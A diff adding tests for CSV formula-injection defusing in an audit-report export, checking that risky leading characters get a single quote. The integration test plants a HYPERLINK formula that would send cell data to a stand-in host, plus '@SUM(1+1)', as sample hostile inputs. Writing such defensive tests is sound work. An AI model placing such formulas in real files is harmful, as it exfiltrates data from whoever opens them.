@@ -8,6 +8,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { PassThrough } from 'node:stream';
 import { generateAuditLedger } from '../bench/audit-ledger.js';
+import { defuseCsvText } from '../src/audit/formats.js';
 import { HTML_MAX_ROWS, escapeHtml } from '../src/audit/html.js';
 import { CSV_COLUMNS } from '../src/audit/rows.js';
 import { openLedger } from '../src/ledger/db.js';
@@ -55,6 +56,13 @@ function parseCsv(text: string): string[][] {
   expect(field, 'the CSV ends with CRLF').to.equal('');
   return records;
 }
+
+describe('audit report: the CSV text rule (pure)', () => {
+  it('a leading = + - @ TAB or CR gets a single quote; anything else, and the same characters further in, stays', () => {
+    for (const s of ['=1+1', '+1', '-5', '@SUM(A1)', '\tx', '\rx']) expect(defuseCsvText(s)).to.equal(`'${s}`);
+    for (const s of ['', 'LOT2026A', '5-1', 'a=b', "'already", ' =1', 'E1042;E2001']) expect(defuseCsvText(s)).to.equal(s);
+  });
+});
 
 describe('audit report (real intake, real sshd, real ledger)', function () {
   let sshd: TestSshd;
@@ -247,6 +255,37 @@ describe('audit report (real intake, real sshd, real ledger)', function () {
     } finally {
       db.prepare('UPDATE files SET name = ? WHERE id = ?').run(before, file);
       db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run(lot, m);
+    }
+  });
+
+  it('CSV defuses formulas: a text cell starting with = + - @ TAB or CR gets a leading \' (OWASP); numbers and the JSON stay as they are', async () => {
+    const db = flow.env.db;
+    const m = flow.ids.accepted;
+    const file = db.prepare('SELECT file_id FROM messages WHERE id = ?').pluck().get(m) as number;
+    const before = db.prepare('SELECT name FROM files WHERE id = ?').pluck().get(file) as string;
+    const lot = db.prepare('SELECT lot FROM message_lines WHERE message_id = ? AND line_no = 1').pluck().get(m) as string;
+    const ref = db.prepare('SELECT reference_doc FROM messages WHERE id = ?').pluck().get(m) as string;
+    const name = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
+    db.prepare('UPDATE files SET name = ? WHERE id = ?').run(name, file);
+    db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run('@SUM(1+1)', m);
+    db.prepare('UPDATE messages SET reference_doc = ? WHERE id = ?').run('-5', m);
+    try {
+      const records = parseCsv(await report('--format', 'csv'));
+      const row = records[1]!;
+      expect(row[CSV_COLUMNS.indexOf('sourceFile')]).to.equal(`'${name}`);
+      expect(row[CSV_COLUMNS.indexOf('lots')]).to.equal(`'@SUM(1+1)`);
+      // a text column holding "-5" is text from the ERP, defused like any other
+      expect(row[CSV_COLUMNS.indexOf('referenceDocumentNumber')]).to.equal(`'-5`);
+      // the number column and harmless text untouched
+      expect(row[CSV_COLUMNS.indexOf('batchId')]).to.equal('1');
+      expect(row[CSV_COLUMNS.indexOf('state')]).to.equal('ACCEPTED');
+      expect(records[0]).to.deep.equal([...CSV_COLUMNS]);
+      const j = await json();
+      expect(j.rows[0]).to.include({ sourceFile: name, lots: '@SUM(1+1)', referenceDocumentNumber: '-5', batchId: 1 });
+    } finally {
+      db.prepare('UPDATE files SET name = ? WHERE id = ?').run(before, file);
+      db.prepare('UPDATE message_lines SET lot = ? WHERE message_id = ?').run(lot, m);
+      db.prepare('UPDATE messages SET reference_doc = ? WHERE id = ?').run(ref, m);
     }
   });
 
